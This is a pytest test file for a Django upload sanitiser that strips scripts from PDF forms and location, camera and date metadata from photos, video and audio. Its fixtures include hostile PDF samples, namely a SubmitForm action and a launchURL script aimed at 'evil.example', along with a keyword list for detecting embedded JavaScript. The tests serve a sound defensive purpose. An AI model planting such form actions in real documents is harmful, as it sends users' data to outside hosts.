"""What others open of a file shows what its owner meant to show: not where and with what it was taken, and nothing that acts."""

import io
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.storage import InMemoryStorage, default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from people import documents, file_checks, file_types, sandbox
from people.inspection import Refusal, media
from people.models import Document
from tests.factories import files
from tests.factories import people as make

NEEDS_FFMPEG = pytest.mark.skipif(shutil.which("ffmpeg") is None, reason="ffmpeg is not installed; python3 -m ops.setup --tests does it")
FORMATS = 'AFDate_FormatEx("mm/dd/yyyy");'


def look(name: str, content: bytes) -> sandbox.FileContents:
    """What is found in a file of this name."""
    kind = file_types.by_name(name)
    assert kind is not None
    return sandbox.inspect(SimpleUploadedFile(name, content), kind=kind)


def page(found: sandbox.FileContents) -> Image.Image:
    """The first page as evaluators see it."""
    return Image.open(io.BytesIO(found.pictures[0].content)).convert("RGB")


def at(seen: Image.Image, bottom: int) -> list[tuple[int, int, int]]:
    """The points of a page of 612 by 792 in a strip that is 200 wide, 72 from the left."""
    scale = seen.width / 612
    strip = seen.crop((int(75 * scale), int((792 - bottom - 37) * scale), int(269 * scale), int((792 - bottom - 3) * scale)))
    return list(zip(*[iter(strip.tobytes())] * 3, strict=True))


def test_a_filled_field_a_signature_and_a_stamp_are_drawn_where_they_stand() -> None:
    seen, blank = page(look("appraisal.pdf", files.pdf_form())), page(look("blank.pdf", files.pdf()))
    assert min(sum(point) for point in at(seen, 700)) < 100 < 750 < min(sum(point) for point in at(blank, 700))
    assert all(red > 180 > 60 > green + blue - 10 for red, green, blue in at(seen, 500))
    assert all(blue > 140 > 60 > red + green - 10 for red, green, blue in at(seen, 300))


def test_what_is_typed_into_a_form_can_be_read_as_text() -> None:
    assert look("appraisal.pdf", files.pdf_form()).text == "What was best?: MMMMMM"


def _sends(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))


def _has_second_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm.XFA = pikepdf.String("<xdp/>")


@pytest.mark.parametrize(
    "content",
    [
        files.pdf_form(script=FORMATS),
        files.pdf_form(script="app.launchURL('https://evil.example')"),
        files.pdf_form(extra=_sends),
        files.pdf_form(extra=_has_second_form),
    ],
)
def test_a_form_is_read_without_its_scripts(content: bytes) -> None:
    found = look("form.pdf", content)
    assert found.copy_type == "application/pdf"
    with pikepdf.open(io.BytesIO(found.copy)) as left:
        everything = b"".join(thing.unparse(resolved=True) for thing in left.objects) + left.trailer.unparse()
        assert left.Root.AcroForm.Fields[0].V == "MMMMMM"
    assert not [word for word in (b"/JS", b"/JavaScript", b"/SubmitForm", b"/XFA", b"AFDate", b"evil") if word in everything]
    assert min(sum(point) for point in at(page(found), 700)) < 100


def test_a_pdf_without_scripts_is_read_as_it_is() -> None:
    assert look("form.pdf", files.pdf_form()).copy_type == ""


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "GIF", "HEIF"])
def test_a_photo_says_neither_place_nor_camera(kind: str) -> None:
    content = files.photo(kind)
    found = look({"JPEG": "a.jpg", "HEIF": "IMG_1.HEIC"}.get(kind, f"a.{kind.lower()}"), content)
    assert any(secret in content for secret in files.SECRETS)
    with Image.open(io.BytesIO(found.copy)) as left:
        assert (left.size, dict(left.getexif()), left.info.get("comment"), left.info.get("xmp")) == ((64, 48), {}, None, None)
        assert left.format in {"JPEG", "PNG"}
    for drawn in (found.copy, found.pictures[0].content):
        assert not any(secret in drawn for secret in files.SECRETS)


def test_a_photo_of_a_phone_is_drawn_the_right_way_up_and_becomes_a_jpeg() -> None:
    turned = Image.Exif()
    turned[0x0112] = 6
    found = look("IMG_1.JPG", files.picture("JPEG", exif=turned))
    heic = look("IMG_1.heic", files.photo("HEIF"))
    assert Image.open(io.BytesIO(found.copy)).size == (40, 60)
    assert (heic.copy_type, heic.copy[:3]) == ("image/jpeg", b"\xff\xd8\xff")


@pytest.mark.parametrize("kind", ["GIF", "WEBP", "PNG"])
def test_a_picture_that_moves_still_moves_and_says_nothing(kind: str) -> None:
    frames = [Image.new("RGB", (20, 10), color) for color in ("red", "lime", "blue")]
    written = io.BytesIO()
    options: dict[str, Any] = {"exif": files.photo("JPEG")[0:0]} if kind != "GIF" else {"comment": files.SECRETS[1]}
    frames[0].save(written, kind, save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0, **options)
    found = look(f"a.{kind.lower()}", written.getvalue())
    assert files.SECRETS[1] not in found.copy
    with Image.open(io.BytesIO(found.copy)) as left:
        assert (left.format, left.n_frames) == (kind, 3)  # type: ignore[attr-defined]
        seen = []
        for number in range(3):
            left.seek(number)
            seen.append(max(range(3), key=left.convert("RGB").getpixel((5, 5)).__getitem__))  # type: ignore[union-attr]
    assert seen == [0, 1, 2]


@pytest.mark.parametrize(
    ("name", "brand", "kind"), [("a.mp4", b"isom", "video/mp4"), ("IMG_2.MOV", b"qt  ", "video/mp4"), ("a.m4a", b"M4A ", "audio/mp4")]
)
def test_a_film_says_neither_place_nor_camera_nor_day_and_is_the_same_film(name: str, brand: bytes, kind: str) -> None:
    content = files.film(brand)
    found = look(name, content)
    assert (found.copy_type, len(found.copy)) == (kind, len(content))
    assert not [word for word in (*files.SECRETS, b"+37.98", b"\xe6\x00\x00\x01", b"qt  ") if word in found.copy]
    assert found.copy[28:32] == content[28:32] == b"\1\2\3\4"
    assert b"avc1" in found.copy


def test_a_track_that_points_outside_the_film_harms_nothing() -> None:
    content = files.film().replace(b"stsz" + b"\0" * 11 + b"\1", b"stsz" + b"\0" * 8 + b"\xff\xff\xff\xff")
    assert look("a.mp4", content).copy_type == "video/mp4"


def test_sound_has_no_words_beside_it() -> None:
    tag = b"ID3\x04\0\0\0\0\0\x1a" + b"Marlow, Kentucky".ljust(26)
    spoken = files.mp3(tag=False)
    assert look("a.mp3", tag + spoken + b"TAG" + b"Marlow, Kentucky".ljust(125)).copy == spoken
    wav = files.wav() + b"LIST\x10\0\0\0Marlow, Kentucky"
    wav = wav[:4] + (len(wav) - 8).to_bytes(4, "little") + wav[8:]
    assert look("a.wav", wav).copy == files.wav()


def test_without_ffmpeg_a_film_that_not_every_browser_plays_is_refused_with_what_to_press(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    (tmp_path / "file").write_bytes(files.film(b"qt  ", codec=b"hvc1"))
    with pytest.raises(Refusal, match="choose Settings, Camera, Formats, Most Compatible, and film again"):
        media.look(tmp_path / "file", "mov", tmp_path)


def _film(folder: Path, name: str, *options: str) -> bytes:
    """A film as a phone makes one: with a place, a camera and a day."""
    said = ["location=+37.9840-085.9720/", "make=Nokia 3310", "creation_time=2026-01-02T03:04:05Z"]
    source = ["-f", "lavfi", "-i", "testsrc=size=128x96:rate=10:duration=1", "-f", "lavfi", "-i", "sine=duration=1"]
    written = [part for one in said for part in ("-metadata", one)] + ["-movflags", "use_metadata_tags", str(folder / name)]
    subprocess.run(["ffmpeg", "-v", "error", "-y", *source, "-pix_fmt", "yuv420p", *options, *written], check=True)
    return (folder / name).read_bytes()


def _probe(folder: Path, content: bytes) -> dict[str, Any]:
    (folder / "probed").write_bytes(content)
    command = ["ffprobe", "-v", "error", "-show_format", "-show_streams", "-of", "json", str(folder / "probed")]
    return dict(json.loads(subprocess.run(command, check=True, capture_output=True).stdout))


@NEEDS_FFMPEG
@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("IMG_2.MOV", ["-c:v", "libx264"]),
        ("a.mp4", ["-c:v", "libx264"]),
        ("IMG_3.MOV", ["-c:v", "libx265", "-tag:v", "hvc1", "-preset", "ultrafast"]),
        ("a.webm", ["-c:v", "libvpx", "-c:a", "libopus"]),
    ],
)
def test_a_true_film_plays_in_every_browser_and_says_nothing(tmp_path: Path, name: str, options: list[str]) -> None:
    content = _film(tmp_path, name, *options)
    before = _probe(tmp_path, content)["format"]["tags"]
    assert any("+37" in value for value in before.values())
    after = _probe(tmp_path, look(name, content).copy)
    said = json.dumps([after["format"].get("tags"), *(stream.get("tags") for stream in after["streams"])])
    assert not [word for word in ("+37", "Nokia", "2026", "location") if word in said]
    assert {stream["codec_name"] for stream in after["streams"]} == ({"vp8", "opus"} if "webm" in name else {"h264", "aac"})
    assert 0.9 < float(after["format"]["duration"]) < 1.2


@pytest.mark.parametrize("name", ["a.mp4", "letter.docx"])
def test_a_folder_that_is_named_as_something_else_is_called_what_it_is(name: str) -> None:
    with pytest.raises(documents.Refused) as refused:
        documents.identify(SimpleUploadedFile(name, files.packed(("photo.jpg", files.picture("JPEG")))))
    assert "the content is another kind (.zip). Unpack it, and choose one file." in refused.value.message


def test_a_folder_named_pdf_is_called_a_folder() -> None:
    for content, ending in (
        (files.packed(("a.jpg", b"x")), ".zip"),
        (files.docx(("word/vbaProject.bin", b"x")), ".docm"),
        (b"PK\x03\x04 broken", ".zip"),
    ):
        with pytest.raises(documents.Refused) as refused:
            documents.identify(SimpleUploadedFile("resume.pdf", content))
        assert f"The name says PDF, but the content is another kind ({ending})." in refused.value.message


@pytest.fixture
def storage(monkeypatch: pytest.MonkeyPatch) -> InMemoryStorage:
    """Files in memory, of this test alone."""
    kept = InMemoryStorage()
    monkeypatch.setattr(default_storage, "_wrapped", kept)
    return kept


def _kept(owner: Any, name: str, content: bytes) -> Document:
    """A file as it is after the worker has looked through it."""
    row = documents.keep(owner, make.upload(name, content), kind="portfolios.evidence", at=make.AT)
    assert file_checks.check(row.id, at=make.AT)
    row.refresh_from_db()
    assert row.refusal == ""
    return row


def _opened(document: Document, person: Any, more: str = "") -> tuple[str, str, bytes]:
    client = Client()
    client.force_login(person)
    answer = client.get(documents.link(document, person) + more)
    content = answer.getvalue()
    assert int(answer.headers["Content-Length"]) == len(content)
    return answer["Content-Type"], answer["Content-Disposition"], content


@pytest.mark.django_db
def test_the_owner_gets_the_original_and_others_get_the_copy(
    alice: Any, rita: Any, storage: InMemoryStorage, django_capture_on_commit_callbacks: Any
) -> None:
    given = files.photo("HEIF")
    row = _kept(alice, "shelf.heic", given)
    assert _opened(row, alice) == ("image/heic", 'attachment; filename="shelf.heic"', given)
    kind, named, content = _opened(row, rita)
    assert (kind, named, content[:3]) == ("image/jpeg", 'attachment; filename="shelf.jpg"', b"\xff\xd8\xff")
    assert _opened(row, alice, "&inline=1")[0] == _opened(row, rita, "&inline=1")[0] == "image/jpeg"
    assert documents.fingerprint(row) == row.sha256
    stored = [row.stored, row.reading]
    assert all(storage.exists(one) for one in stored)
    with django_capture_on_commit_callbacks(execute=True):
        assert documents.drop(row)
    assert not any(storage.exists(one) for one in stored)


@pytest.mark.django_db
def test_others_never_get_the_script_of_a_form(alice: Any, rita: Any, storage: InMemoryStorage) -> None:
    given = files.pdf_form(script="app.alert(1)")
    row = _kept(alice, "form.pdf", given)
    assert _opened(row, alice)[2] == given
    assert b"app.alert" not in _opened(row, rita)[2]


@pytest.mark.parametrize(
    ("name", "advice"),
    [
        ("book.epub", "save it as PDF, and choose that file"),
        ("talk.vtt", "save them as .txt, and choose that file"),
        ("talk.srt", "save them as .txt, and choose that file"),
        ("notes.md", "Rename it so that it ends in .txt"),
        ("event.ics", "print it to PDF, and choose the PDF"),
        ("resume", "It is PDF: let its name end in .pdf, and choose it again."),
    ],
)
def test_what_is_not_taken_comes_with_advice_of_its_own(name: str, advice: str) -> None:
    content = files.pdf() if name == "resume" else b"BEGIN"
    with pytest.raises(documents.Refused) as refused:
        documents.identify(SimpleUploadedFile(name, content))
    assert advice in refused.value.message
